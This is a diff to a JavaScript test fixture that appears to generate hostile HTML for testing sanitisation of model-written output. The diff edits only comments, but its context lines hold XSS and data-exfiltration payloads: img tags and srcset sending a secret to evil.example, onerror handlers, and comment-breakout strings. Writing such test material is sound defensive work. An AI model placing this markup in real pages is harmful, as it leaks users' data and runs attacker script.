@@ -1,9 +1,9 @@
-// HTML as an attacker would have a model write it.
+// HTML that an attacker would have a model write.
 import { randomFrom } from "../../oracle/random.mjs";
 
 export const SECRET = "What only the document says.";
 
-/** Each is a way of its own to load, run, navigate or clobber. */
+/** Each is a separate way to load, run, navigate or clobber. */
 export const PAYLOADS = [
   `<p>Hi</p><img src="https://evil.example/c?d=SECRET">`,
   `<p>Hi</p><img src="http://evil.example/c?d=SECRET" srcset="//evil.example/2 2x" onerror="trapped(1)">`,
@@ -41,7 +41,7 @@ const VALUES = [
 ];
 const TEXTS = ["text", "&lt;img src=x onerror=trapped(1)&gt;", "<!-- --!><img src=x onerror=trapped(2)> -->", "]]>", "\n  ", "&", "<", "https://evil.example/plain"];
 
-/** Random HTML of all that has ever loaded or run anything, well-formed or not. */
+/** Random HTML of everything that has ever loaded or run something, well-formed or not. */
 export function randomHTML(seed, size = 12) {
   const random = randomFrom(seed);
   const attribute = () => {
